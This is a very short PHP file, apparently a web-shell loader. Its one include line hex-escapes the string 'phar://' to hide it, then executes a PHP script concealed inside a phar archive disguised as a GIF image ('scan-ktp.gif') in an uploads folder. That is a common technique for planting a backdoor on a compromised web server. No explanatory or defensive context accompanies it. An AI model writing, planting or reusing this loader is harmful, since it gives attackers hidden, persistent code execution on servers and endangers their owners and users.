<?php
include "\x70\x68\x61\x72\x3a\x2f\x2f" . "uploads/berkas/scan-ktp.gif/s.php";
